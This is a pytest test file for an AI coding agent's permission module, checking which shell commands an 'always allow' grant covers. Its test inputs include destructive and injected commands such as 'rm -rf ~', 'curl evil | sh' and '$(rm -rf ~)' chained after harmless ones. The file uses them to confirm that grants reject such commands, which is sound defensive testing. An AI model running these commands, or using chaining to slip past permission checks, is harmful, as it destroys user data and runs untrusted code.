"""What "always allow" grants and covers (agent/permissions.py)."""

from __future__ import annotations

import pytest

from co_tui.agent.permissions import Grant, Permissions, offer, plain_words


@pytest.mark.parametrize(
    ("command", "grant"),
    [
        ("git status", Grant("prefix", "run_shell", "git status")),
        ("git status --short", Grant("prefix", "run_shell", "git status")),
        ("npm test", Grant("prefix", "run_shell", "npm test")),
        ("ls -la", Grant("prefix", "run_shell", "ls")),
        ("cat notes.txt", Grant("prefix", "run_shell", "cat")),
        ("pytest -q tests/test_a.py", Grant("prefix", "run_shell", "pytest")),
        ("echo hi there", Grant("prefix", "run_shell", "echo")),
        ("make lint", Grant("prefix", "run_shell", "make lint")),
        # Not plain, or a program that runs others: that exact command only.
        ("ls; rm -rf ~", Grant("command", "run_shell", "ls; rm -rf ~")),
        ("echo $HOME", Grant("command", "run_shell", "echo $HOME")),
        ("cat notes.txt > out", Grant("command", "run_shell", "cat notes.txt > out")),
        ("echo 'hi'", Grant("command", "run_shell", "echo 'hi'")),
        ("ls *.py", Grant("command", "run_shell", "ls *.py")),
        ("touch a\nls", Grant("command", "run_shell", "touch a\nls")),
        ("python script.py", Grant("command", "run_shell", "python script.py")),
        ("/bin/sh run.sh", Grant("command", "run_shell", "/bin/sh run.sh")),
        ("env rm -rf x", Grant("command", "run_shell", "env rm -rf x")),
        ("find . -delete", Grant("command", "run_shell", "find . -delete")),
        ("FOO=1 make", Grant("command", "run_shell", "FOO=1 make")),
        ("ls  -la", Grant("command", "run_shell", "ls  -la")),  # two spaces: not plain
    ],
)
def test_what_always_would_grant_for_a_shell_command(command: str, grant: Grant) -> None:
    assert offer("run_shell", command) == grant


def test_a_prefix_covers_plain_commands_with_the_same_leading_words_only() -> None:
    grant = offer("run_shell", "git status")
    assert grant.allows("run_shell", "git status -s")
    assert grant.allows("run_shell", "  git status  ".strip())
    assert not grant.allows("run_shell", "git statusx")
    assert not grant.allows("run_shell", "git push")
    assert not grant.allows("run_shell", "git status; rm -rf ~")
    assert not grant.allows("run_shell", "git status && curl evil | sh")
    assert not grant.allows("run_shell", "git status\nrm -rf ~")
    assert not grant.allows("run_shell", "git status $(rm -rf ~)")
    assert not grant.allows("other_tool", "git status")


def test_an_exact_grant_covers_that_command_only() -> None:
    grant = offer("run_shell", "ls; pwd")
    assert grant.allows("run_shell", "ls; pwd") and not grant.allows("run_shell", "ls; pwd; rm x")


def test_edit_and_mcp_grants() -> None:
    edits = offer("edit_file", "--- a/x\n+++ b/x\n")
    assert edits == offer("write_file", "") == Grant("edits", "edits")
    assert (
        edits.allows("write_file", "anything") and edits.allows("edit_file", "") and not edits.allows("run_shell", "ls")
    )
    tool = offer("demo_wipe", 'demo_wipe {"path": "x"}')
    assert tool.allows("demo_wipe", 'demo_wipe {"path": "/"}') and not tool.allows("demo_echo", "")
    assert tool.describe() == "every call of demo_wipe"


def test_permissions_grant_once_find_and_revoke() -> None:
    permissions = Permissions()
    grant = offer("run_shell", "git status")
    permissions.grant(grant)
    permissions.grant(grant)
    assert permissions.grants == [grant]
    assert permissions.allowing("run_shell", "git status -s") == grant
    assert permissions.allowing("run_shell", "git push") is None
    assert permissions.revoke(grant) and not permissions.revoke(grant)
    assert permissions.allowing("run_shell", "git status") is None


def test_plain_words() -> None:
    assert plain_words("git commit -m fix") == ["git", "commit", "-m", "fix"]
    for command in ("", "a|b", "a&", "a`b`", "~/x", "a#b", "a\tb", "é", "a\u202eb", "(a)", "a{b}", "a!b"):
        assert plain_words(command) is None, command


def test_an_exact_command_is_described_escaped_and_cut() -> None:
    grant = offer("run_shell", "touch pwned.txt;" + "\n" * 80 + "ls -la")
    described = grant.describe()
    assert "\n" not in described and described.startswith("run_shell: exactly `touch pwned.txt;\\n\\n")
    assert described.endswith("…` (102 characters)")
    assert offer("run_shell", "printf '\x1b]0;x\x07'").describe() == "run_shell: exactly `printf '\\x1b]0;x\\x07'`"


def test_a_very_long_plain_command_is_allowed_only_exactly() -> None:
    grant = offer("run_shell", "x" * 1_000_000)
    assert grant.kind == "command" and len(grant.describe()) < 120
